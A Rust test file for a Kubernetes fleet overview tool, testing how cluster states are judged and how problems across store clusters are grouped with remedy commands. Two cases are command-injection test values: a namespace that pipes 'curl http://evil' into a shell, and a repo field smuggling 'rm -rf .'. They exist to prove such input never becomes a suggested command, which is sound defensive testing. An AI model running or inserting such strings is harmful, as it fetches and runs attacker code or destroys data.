//! States and problems by tables: the least YAML that makes the point.

use std::collections::BTreeMap;

use api::hub::{Problem, State};
use api::report::{Application, Workload};
use jiff::Timestamp;
use overview::{Judged, Lag, Link, Seen, Symptom, Trouble, problems, state, symptoms};
use serde::Deserialize;

#[derive(Deserialize)]
#[serde(rename_all = "camelCase", default, deny_unknown_fields)]
struct Cluster {
    name: String,
    region: String,
    accepted: bool,
    available: Option<bool>,
    spoken: bool,
    conflict: Option<String>,
    clock: Option<String>,
    nodes: (u32, u32),
    lost: u64,
    apps: Vec<Application>,
    /// Commits and since when, by Application.
    lags: BTreeMap<String, (u32, String)>,
    workloads: Vec<Workload>,
}

impl Default for Cluster {
    fn default() -> Self {
        let empty = Vec::new;
        Self {
            name: "store-1".into(),
            region: String::new(),
            accepted: true,
            available: Some(true),
            spoken: true,
            conflict: None,
            clock: None,
            nodes: (1, 1),
            lost: 0,
            apps: Vec::new(),
            lags: BTreeMap::new(),
            workloads: empty(),
        }
    }
}

const NOW: &str = "2026-11-23T11:00:00Z";

fn at(text: &str) -> Option<Timestamp> {
    text.parse().ok()
}

fn judged(is_true: bool, message: &str) -> Judged {
    Judged { is_true, since: at("2026-11-23T10:00:00Z"), reason: String::new(), message: message.to_owned() }
}

fn with<T>(cluster: &Cluster, then: impl FnOnce(&Seen) -> T) -> T {
    let link = Link {
        is_accepted: cluster.accepted,
        created_at: at("2026-11-23T09:00:00Z"),
        available: cluster.available.map(|is_true| judged(is_true, if is_true { "" } else { "the lease is old" })),
        conflict: cluster.conflict.as_deref().map(|text| judged(false, text)),
        clock: cluster.clock.as_deref().map(|text| judged(false, text)),
        has_spoken: cluster.spoken,
    };
    let troubles: Vec<Trouble> = cluster.workloads.iter().filter_map(symptoms::trouble).collect();
    let lag = |(commits, since): &(u32, String)| Lag { commits: *commits, is_more: *commits >= 500, since: at(since) };
    let lags = cluster.lags.iter().map(|(app, told)| (app.clone(), lag(told))).collect();
    then(&Seen {
        name: &cluster.name,
        region: &cluster.region,
        link: &link,
        apps: &cluster.apps.iter().collect::<Vec<_>>(),
        lags: &lags,
        troubles: &troubles.iter().collect::<Vec<_>>(),
        nodes: cluster.nodes.1,
        nodes_ready: cluster.nodes.0,
        reports_lost: cluster.lost,
    })
}

fn cluster(yaml: &str) -> Cluster {
    serde_saphyr::from_str(yaml).unwrap_or_else(|error| panic!("{error}\n{yaml}"))
}

#[test]
fn a_cluster_is_what_its_link_and_its_worst_application_say() {
    let check = |yaml: &str, expect: (State, State), words: &str| {
        let verdict = with(&cluster(yaml), state::of);
        assert_eq!((verdict.state, verdict.app_state), expect, "{yaml}: {}", verdict.reason);
        assert!(verdict.reason.contains(words), "{yaml}: {}", verdict.reason);
    };
    use State::{Degraded, Joining, Offline, Pending, Progressing, Ready, Unknown};
    let fine = "{namespace: a, name: b, sync: Synced, health: Healthy}";
    check("accepted: false", (Pending, Unknown), "`muster accept store-1`");
    check("{available: null}", (Joining, Unknown), "not heard yet");
    check("{available: false, spoken: false}", (Joining, Unknown), "never been heard");
    check(&format!("{{available: false, apps: [{fine}]}}"), (Offline, Ready), "the lease is old");
    check("{conflict: another cluster came}", (Degraded, Unknown), "another cluster came");
    check("name: x", (Ready, Unknown), "no Applications");
    check(&format!("apps: [{fine}]"), (Ready, Ready), "all 1 Applications");
    check("apps: [{sync: Synced, health: Suspended}]", (Ready, Ready), "");
    check("apps: [{sync: OutOfSync, health: Healthy, operation: Running}]", (Progressing, Progressing), "OutOfSync");
    check("apps: [{sync: Synced, health: Progressing}]", (Progressing, Progressing), "Progressing");
    check(&format!("apps: [{fine}, {{namespace: c, name: d, sync: Synced, health: Degraded}}]"), (Degraded, Degraded), "c/d");
    check("apps: [{sync: OutOfSync, health: Healthy, operation: Failed, message: denied}]", (Degraded, Degraded), "denied");
    check(
        "apps: [{sync: Unknown, health: Healthy, condition: ComparisonError, message: no such path}]",
        (Degraded, Degraded),
        "no such path",
    );
    check("nodes: [1, 3]", (Degraded, Unknown), "2 of 3 nodes");
    // A bad image does not go away by waiting for the Deployment's deadline.
    check(
        "{apps: [{sync: Synced, health: Progressing}], workloads: [{kind: Deployment, name: w, health: Progressing, ready: 1, trouble: {reason: ImagePullBackOff, message: not found}}]}",
        (Degraded, Progressing),
        "not found",
    );
}

/// Returns the problems of clusters, a line each.
fn shown(clusters: &[&str]) -> Vec<String> {
    let all: Vec<(String, Vec<Symptom>)> =
        clusters.iter().map(|yaml| cluster(yaml)).map(|c| (c.name.clone(), with(&c, symptoms::of))).collect();
    let found = problems::group(all.iter().flat_map(|(name, list)| list.iter().map(move |s| (name.as_str(), s))), at(NOW).unwrap());
    let line = |p: &Problem| {
        let serving = p.still_serving.map(|s| format!(" serving {}/{}", s.yes, s.of)).unwrap_or_default();
        format!("{:?} {} x{}{serving} | {} | {}", p.severity, p.kind, p.clusters, p.title, p.remedy)
    };
    found.iter().map(line).collect()
}

#[test]
fn failures_are_grouped_by_cause() {
    let check = |clusters: &[&str], expect: &[&str]| assert_eq!(shown(clusters), expect, "{clusters:#?}");
    let bad_image = |name: &str, ready: u32| {
        format!(
            "{{name: {name}, apps: [{{namespace: edge, name: offers, repo: 'http://git/web.git', path: apps/offers, revision: 0123456789abcdef0123456789abcdef01234567, sync: Synced, health: Progressing}}],
              workloads: [{{kind: Deployment, namespace: offers, name: api, application: edge/offers, desired: 2, ready: {ready}, health: Progressing, trouble: {{reason: ImagePullBackOff, image: 'offers:9', message: back-off}}}}]}}"
        )
    };
    let revert = "git revert $(git log -1 --format=%h -Soffers:9) && git push    # in a clone of http://git/web.git";
    check(
        &[&bad_image("a", 2), &bad_image("b", 2)],
        &[&format!("Warning ImagePullBackOff x2 serving 2/2 | edge/offers: image offers:9 cannot be pulled | {revert}")],
    );
    check(
        &[&bad_image("a", 2), &bad_image("b", 0)],
        &[&format!("Critical ImagePullBackOff x2 serving 1/2 | edge/offers: image offers:9 cannot be pulled | {revert}")],
    );
    // Stores have overlays of their own; the image is the same.
    check(
        &[&bad_image("a", 2), &bad_image("b", 2).replace("apps/offers", "overlays/kiosk")],
        &[&format!("Warning ImagePullBackOff x2 serving 2/2 | edge/offers: image offers:9 cannot be pulled | {revert}")],
    );
    let broken = |name: &str, path: &str| {
        format!("{{name: {name}, apps: [{{namespace: n, name: x, repo: 'http://git/x.git', path: {path}, condition: ComparisonError}}]}}")
    };
    check(
        &[&broken("a", "one"), &broken("b", "two"), &broken("c", "two")],
        &[
            "Warning RenderFailed x2 serving 0/2 | n/x: its files do not become objects | muster app get n/x -c b",
            "Warning RenderFailed x1 serving 0/1 | n/x: its files do not become objects | muster app get n/x -c a",
        ],
    );
    check(
        &[
            "{name: a, region: east, available: false, apps: [{sync: OutOfSync, health: Degraded}]}",
            "{name: b, region: east, available: false}",
            "{name: c, region: west, available: false}",
        ],
        &[
            "Warning Offline x2 | not reached in east | muster describe cluster a",
            "Warning Offline x1 | not reached in west | muster describe cluster c",
        ],
    );
    check(&["{name: a, accepted: false}", "{name: b, accepted: false}"], &["Info Pending x2 | ask to join | muster accept a b"]);
    check(
        &["{name: a, apps: [{namespace: n, name: x, sync: OutOfSync, health: Healthy, operation: Failed, message: denied}]}"],
        &["Warning SyncFailed x1 serving 1/1 | n/x: the last sync failed | muster app get n/x -c a"],
    );
    // What a spoke tells is never a command, and no time it tells is too late.
    check(
        &[
            "{workloads: [{kind: Deployment, namespace: 's; curl http://evil | sh', name: w, health: Degraded, ready: 0, trouble: {reason: CrashLoopBackOff, image: 'w:1'}}]}",
        ],
        &["Critical CrashLoop x1 serving 0/1 | w:1 crashes again and again | muster describe cluster store-1"],
    );
    check(
        &[
            "{apps: [{namespace: n, name: x, repo: \"http://git/a\\nrm -rf .\", sync: Synced, health: Progressing}], workloads: [{kind: Deployment, namespace: s, name: w, application: n/x, ready: 1, trouble: {reason: ImagePullBackOff, image: 'w:1.2.3'}}]}",
        ],
        &["Warning ImagePullBackOff x1 serving 1/1 | n/x: image w:1.2.3 cannot be pulled | muster describe cluster store-1"],
    );
    check(&["{apps: [{namespace: n, name: x, sync: OutOfSync, syncSince: '9999-12-30T22:00:00Z'}]}"], &[]);
    // Between a commit and its sync every cluster is out of sync.
    check(&["{apps: [{namespace: n, name: x, sync: OutOfSync, syncSince: '2026-11-23T10:59:30Z'}]}"], &[]);
    check(
        &["{apps: [{namespace: n, name: x, sync: OutOfSync, syncSince: '2026-11-23T10:50:00Z'}]}"],
        &["Warning OutOfSync x1 | n/x: differs from Git and is not synced | muster app get n/x -c store-1"],
    );
    check(
        &[
            "{workloads: [{kind: Deployment, namespace: s, name: w, health: Degraded, ready: 0, trouble: {reason: CrashLoopBackOff, image: 'w:1'}}]}",
        ],
        &["Critical CrashLoop x1 serving 0/1 | w:1 crashes again and again | kubectl logs --previous -n s deployment/w    # on store-1"],
    );
    check(
        &["{clock: 90 s behind, lost: 3, nodes: [0, 1]}"],
        &[
            "Warning ClockSkew x1 | the clock is wrong | timedatectl set-ntp true    # on the nodes of store-1",
            "Warning NodesNotReady x1 | nodes are not ready | kubectl get nodes    # on store-1",
            "Info ReportsLost x1 | reports were lost | muster describe cluster store-1",
        ],
    );
}

#[test]
fn an_application_synced_by_hand_that_is_behind_is_a_gap_until_its_deadline_and_a_warning_after() {
    const APP: &str = "namespace: n, name: x, repo: 'http://git/x.git', targetRevision: prod, isManual: true, \
        sync: OutOfSync, health: Healthy, revision: b, syncedRevision: a, syncSince: '2026-11-23T10:00:00Z'";
    const REMEDY: &str = "muster app sync n/x -c store-1";
    let check = |more: &str, lags: &str, expect: &[&str]| {
        let yaml = format!("{{apps: [{{{APP}, {more}}}], lags: {{{lags}}}}}");
        assert_eq!(shown(&[&yaml]), expect, "{yaml}");
    };
    let nine = "n/x: [9, '2026-11-11T10:00:00Z']";
    check("", nine, &[&format!("Info Gap x1 | n/x: 9 commits behind prod for 12 days | {REMEDY}")]);
    check("syncDeadline: 13d", nine, &[&format!("Info Gap x1 | n/x: 9 commits behind prod for 12 days | {REMEDY}")]);
    check(
        "syncDeadline: 10d",
        nine,
        &[&format!("Warning Gap x1 | n/x: 9 commits behind prod for 12 days, 2 days past its deadline | {REMEDY}")],
    );
    check("", "n/x: [1, '2026-11-23T10:59:30Z']", &[&format!("Info Gap x1 | n/x: 1 commit behind prod for less than a minute | {REMEDY}")]);
    check(
        "",
        "n/x: [500, '2026-11-11T10:00:00Z']",
        &[&format!("Info Gap x1 | n/x: more than 500 commits behind prod for 12 days | {REMEDY}")],
    );
    // Nobody could count: since the cluster saw it.
    check(
        "syncDeadline: 30m",
        "",
        &[&format!("Warning Gap x1 | n/x: behind prod for 60 minutes, 30 minutes past its deadline | {REMEDY}")],
    );
    // A deadline that is none is told, whether or not it matters today.
    let invalid = "Warning InvalidSyncDeadline x1 | n/x: its deadline for syncs is not a duration | muster app get n/x -c store-1";
    check("syncDeadline: soon", nine, &[invalid, &format!("Info Gap x1 | n/x: 9 commits behind prod for 12 days | {REMEDY}")]);
    assert_eq!(shown(&["{apps: [{namespace: n, name: x, sync: Synced, health: Healthy, syncDeadline: soon}]}"]), [invalid]);
    // What is no gap: one that syncs itself, one that drifted, one whose sync failed, one that is being synced.
    let drifted = "Warning OutOfSync x1 | n/x: differs from Git and is not synced | muster app get n/x -c store-1";
    for (change, expect) in [
        (("isManual: true", "isManual: false"), vec![drifted]),
        (("syncedRevision: a", "syncedRevision: b"), vec![drifted]),
        (("sync: OutOfSync", "sync: Synced"), vec![]),
        (("health: Healthy", "operation: Running"), vec![]),
        (
            ("health: Healthy", "health: Healthy, operation: Failed"),
            vec!["Warning SyncFailed x1 serving 1/1 | n/x: the last sync failed | muster app get n/x -c store-1"],
        ),
    ] {
        let yaml = format!("{{apps: [{{{}}}], lags: {{{nine}}}}}", APP.replace(change.0, change.1));
        assert_eq!(shown(&[&yaml]), expect, "{yaml}");
    }
    // Of several clusters the one that is behind furthest speaks.
    let [near, far] = [("store-1", "n/x: [2, '2026-11-20T10:00:00Z']"), ("store-2", nine)]
        .map(|(name, lags)| format!("{{name: {name}, apps: [{{{APP}}}], lags: {{{lags}}}}}"));
    assert_eq!(shown(&[&near, &far]), [format!("Info Gap x2 | n/x: up to 9 commits behind prod for 12 days | {REMEDY}")]);
}

#[test]
fn a_problem_names_the_path_it_comes_from_where_there_is_one() {
    let sources = |paths: [&str; 2]| {
        let of = |path: &str| {
            cluster(&format!(
                "{{apps: [{{namespace: n, name: x, repo: 'http://git/x.git', path: {path}, sync: Synced, health: Degraded}}]}}"
            ))
        };
        let all = paths.map(|path| with(&of(path), symptoms::of).remove(0));
        let found = problems::group(all.iter().map(|symptom| ("a", symptom)), at(NOW).unwrap());
        found.into_iter().map(|problem| problem.source).collect::<Vec<_>>()
    };
    assert_eq!(sources(["one", "one"]), ["http://git/x.git/one"]);
    assert_eq!(sources(["one", "two"]), ["http://git/x.git"]);
}

#[test]
fn a_problem_keeps_its_name_and_says_since_when() {
    let one = cluster("{name: a, available: false, region: east}");
    let symptoms = with(&one, symptoms::of);
    let problem = problems::group([("a", &symptoms[0])], at(NOW).unwrap()).remove(0);
    assert_eq!(problem.filter, format!("problem={}", problem.id));
    assert_eq!((problem.since, problem.sample.as_slice()), (at("2026-11-23T10:00:00Z"), ["a".to_owned()].as_slice()));
    assert_eq!(problem.id, problems::id(&symptoms[0].cause));
}
